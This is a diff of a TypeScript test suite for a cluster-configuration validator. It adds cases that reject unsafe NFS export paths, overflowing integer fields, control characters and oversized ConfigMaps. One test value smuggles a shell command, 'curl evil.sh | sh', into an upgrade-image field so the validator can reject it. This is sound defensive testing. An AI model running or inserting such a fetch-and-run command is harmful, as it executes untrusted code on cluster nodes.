@@ -45,6 +45,32 @@ const model = (url: string) => `models:
       output: [{ name: fc6_1, dataType: TYPE_FP32, dims: [1000] }]
 `;
 
+/**
+ * Models whose inline file is one YAML anchor aliased `count` times: a description of about
+ * `kib` KiB that makes the seeding ConfigMap hold `count` times as much (issue 20.10).
+ */
+function aliasedInlineFiles(count: number, kib: number): string {
+  const content = 'label\n'.repeat((kib * 1024) / 6);
+  const modelYaml = (i: number) => `  - name: big_${i}
+    downloads: [{ url: "https://models.example.org/big_${i}.onnx", archive: file, files: [{ to: 1/model.onnx }] }]
+    inlineFiles: [{ to: labels.txt, content: ${i === 0 ? `&labels ${JSON.stringify(content)}` : '*labels'} }]
+    config: { backend: onnxruntime, input: [{ name: x, dataType: TYPE_FP32, dims: [1] }], output: [{ name: y, dataType: TYPE_FP32, dims: [1], labelFilename: labels.txt }] }
+`;
+  return `models:
+${Array.from({ length: count }, (_, i) => modelYaml(i)).join('')}`;
+}
+
+/** A valid extra model whose `config:` gets `extra` (YAML flow entries) and whose input is named `input`. */
+function modelWithConfig(extra: string, input = 'data_0'): string {
+  return `models:
+  - name: densenet_onnx
+    downloads: [{ url: "https://models.example.org/densenet.onnx", archive: file, files: [{ to: 1/model.onnx }] }]
+    config: { platform: onnxruntime_onnx, maxBatchSize: 8, input: [{ name: ${JSON.stringify(input)}, dataType: TYPE_FP32, dims: [3, 224, 224] }], output: [{ name: fc6_1, dataType: TYPE_FP32, dims: [1000] }]${extra ? `, ${extra}` : ''} }
+`;
+}
+
+const longPrefix = (n: number) => `${'a'.repeat(60)}.`.repeat(Math.ceil(n / 61)).slice(0, n).replace(/\.$/, 'b');
+
 /** [what, file content (string) or how to make the --config path, text the one line must hold]. */
 const cases: [string, string | ((dir: string) => string), string][] = [
   ['a folder given as --config (EISDIR)', (dir) => { mkdirSync(path.join(dir, 'conf.d')); return path.join(dir, 'conf.d'); }, 'is a folder, not a file'],
@@ -87,6 +113,37 @@ const cases: [string, string | ((dir: string) => string), string][] = [
   ['a k3s-upgrade image with a shell command', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: "rancher/k3s-upgrade; curl evil.sh | sh"\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image reference'],
   ['a k3s-upgrade image pinned to another release', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: rancher/k3s-upgrade:v1.35.0-k3s1\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image name without tag'],
   ['a drain timeout beyond SUC\'s job deadline', 'upgrades:\n  systemUpgradeController:\n    drain: { timeoutSeconds: 3600 }\n', 'upgrades.systemUpgradeController.drain.timeoutSeconds: must be at most 840 seconds, below SUC'],
+  // Issue 20.13: the managed NFS server would export these read-write (no_root_squash) to the cluster.
+  ...([
+    ['/', 'the whole of "/"'], ['//', 'the whole of "/"'], ['/.', 'the whole of "/"'], ['/var', 'the whole of "/var"'], ['/var/', 'the whole of "/var"'],
+    ['/home', 'the whole of "/home"'], ['/home/alice', 'the whole of "/home/alice"'], ['/srv', 'the whole of "/srv"'], ['/mnt', 'the whole of "/mnt"'], ['/opt', 'the whole of "/opt"'],
+  ] as const).map(([path, what]): [string, string, string] => [`nfs.path ${path} with nfsServer.managed: true`,
+    `nfs:\n  path: "${path}"\nnfsServer:\n  managed: true\n`, `nfs.path: with nfsServer.managed: true this would export ${what} read-write to the cluster; `]),
+  ...['/etc', '/etc/', '/usr/local/share', '/root', '/root/models', '/boot', '/proc/self', '/sys', '/dev/shm', '/run', '/bin', '/sbin', '/lib', '/lib64/x',
+    '/var/lib', '/var/lib/rancher', '/var/log', '/tmp/nfs', '/var/tmp/x', '//etc', '/./etc/./ssh'].map((path): [string, string, string] => [`nfs.path ${path} (a system folder)`,
+    `nfs:\n  path: "${path}"\n`, 'nfs.path: is a system folder (']),
+  // Issue 20.17: values that passed validation but that the API server, Triton or Prometheus refuse.
+  ['seeding.runAsUser 4294967296 (2^32)', 'seeding:\n  runAsUser: 4294967296\n', 'seeding.runAsUser: must be at most 2147483647 (the API server\'s largest user id)'],
+  ['seeding.runAsUser 2147483648 (2^31)', 'seeding:\n  runAsUser: 2147483648\n', 'seeding.runAsUser: must be at most 2147483647'],
+  ['maxBatchSize 2^40 (int32 in model_config.proto)', modelWithConfig('').replace('maxBatchSize: 8', 'maxBatchSize: 1099511627776'), 'models[0].config.maxBatchSize: must be at most 2147483647 (an int32 in Triton\'s model_config.proto)'],
+  ['instance_group count 2^40', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, count: 1099511627776 }]'), 'models[0].config.instanceGroup[0].count: must be at most 2147483647'],
+  ['a GPU index of 2^31', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, gpus: [2147483648] }]'), 'models[0].config.instanceGroup[0].gpus[0]: must be at most 2147483647'],
+  ['a preferred batch size of 2^40', modelWithConfig('dynamicBatching: { preferredBatchSize: [1099511627776] }'), 'models[0].config.dynamicBatching.preferredBatchSize[0]: must be at most 2147483647'],
+  ['a preferred batch size above maxBatchSize (Triton refuses it)', modelWithConfig('dynamicBatching: { preferredBatchSize: [4, 16] }'), 'models[0].config.dynamicBatching.preferredBatchSize[1]: 16 is above maxBatchSize 8'],
+  ['numVersions 2^32 (uint32)', modelWithConfig('versionPolicy: { latest: { numVersions: 4294967296 } }'), 'models[0].config.versionPolicy.latest.numVersions: must be at most 4294967295 (a uint32'],
+  ['a tensor name with a raw control byte', modelWithConfig('', 'data\u00010'), 'models[0].config.input[0].name: must not contain control characters'],
+  ['a tensor name with a newline', modelWithConfig('', 'data\n0'), 'models[0].config.input[0].name: must not contain control characters'],
+  ['a backend with a NUL byte', modelWithConfig('').replace('platform: onnxruntime_onnx', 'backend: "onnx\\0runtime"'), 'models[0].config.backend: must not contain control characters'],
+  ['a parameter key with an escape', modelWithConfig('parameters: { "key\\e[31m": "v" }'), 'models[0].config.parameters.key\\u001b[31m: key must not contain control characters'],
+  ['a parameter value with a lone surrogate', modelWithConfig('parameters: { key: "\\ud800" }'), 'models[0].config.parameters.key: must be valid Unicode'],
+  ['a node selector key whose prefix has 254 characters', `triton:\n  nodeSelector:\n    ${longPrefix(254)}/jetson: "true"\n`, 'key must be a label key whose prefix (before "/") has at most 253 characters'],
+  ['a ServiceMonitor label key whose prefix has 300 characters', `metrics:\n  serviceMonitor:\n    labels:\n      ${longPrefix(300)}/release: x\n`, 'key must be a label key whose prefix (before "/") has at most 253 characters'],
+  ['scrapeTimeout longer than interval', 'metrics:\n  serviceMonitor:\n    enabled: true\n    interval: 30s\n    scrapeTimeout: 1m\n', 'metrics.serviceMonitor.scrapeTimeout: 1m is longer than interval 30s'],
+  ['scrapeTimeout longer than the default interval', 'metrics:\n  serviceMonitor:\n    scrapeTimeout: 31s\n', 'metrics.serviceMonitor.scrapeTimeout: 31s is longer than interval 30s'],
+  ['an interval beyond what Prometheus can hold', 'metrics:\n  serviceMonitor:\n    interval: 999999999999y\n', 'metrics.serviceMonitor.interval: must be at most 292y'],
+  // Issue 20.10: one 250 KiB inline file aliased 8 times made a 2 MB ConfigMap (the API server takes 1 MiB).
+  ['inline files reused through YAML aliases: a 2 MB seeding ConfigMap', aliasedInlineFiles(8, 250),
+    'models: the seeding ConfigMap would hold 2.0 MiB (2079891 bytes), over the API server\'s limit of 1 MiB (1048576 bytes); heaviest: big_0 250.2 KiB, big_1 250.2 KiB, big_2 250.2 KiB; move large inlineFiles to downloads'],
 ];
 
 describe('synth refuses hostile cluster descriptions in one line, changing nothing', () => {
@@ -149,6 +206,17 @@ describe('what is still accepted', () => {
     ['a URL with "@" only in its path or query', 'seeding:\n  mirror: https://mirror.lan/team@site/models?owner=a@b\n'],
     ['aliases used sparingly', 'triton:\n  nodeSelector: &sel\n    triton-jetson.dev/jetson: "true"\n'],
     ['100 KB of a valid description (comments)', `${'# comment\n'.repeat(10_000)}nfs:\n  server: nas.lan\n`],
+    // Issue 20.13: folders of their own below the parents stay valid (the tutorial's first).
+    ...['/var/nfs/general', '/var/nfs', '/srv/nfs', '/srv/nfs/models/', '/home/alice/nfs', '/mnt/pool/models', '/opt/nfs', '/export', '/var/www-models', '/etcetera', '/data']
+      .map((path): [string, string] => [`a managed export at ${path}`, `nfs:\n  path: "${path}"\nnfsServer:\n  managed: true\n`]),
+    ['an NFSv4 pseudo-root "/" on a server this project does not manage', 'nfs:\n  path: /\n'],
+    // Issue 20.17: the limits themselves are accepted.
+    ['runAsUser 2147483647', 'seeding:\n  runAsUser: 2147483647\n'],
+    ['int32 and uint32 fields at their largest', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, count: 2147483647, gpus: [2147483647] }], versionPolicy: { latest: { numVersions: 4294967295 } }').replace('maxBatchSize: 8', 'maxBatchSize: 2147483647')],
+    ['a preferred batch size equal to maxBatchSize', modelWithConfig('dynamicBatching: { preferredBatchSize: [8] }')],
+    ['a parameter value with a newline and a tab (escaped in config.pbtxt)', modelWithConfig('parameters: { key: "two\\nlines\\tand a tab" }')],
+    ['a label key whose prefix has 253 characters', `triton:\n  nodeSelector:\n    ${longPrefix(253)}/jetson: "true"\n`],
+    ['scrapeTimeout equal to interval, in other units', 'metrics:\n  serviceMonitor:\n    interval: 1m\n    scrapeTimeout: 60s\n'],
   ])('%s', (_what, content) => {
     const file = path.join(box.root, 'ok.yaml');
     writeFileSync(file, content);
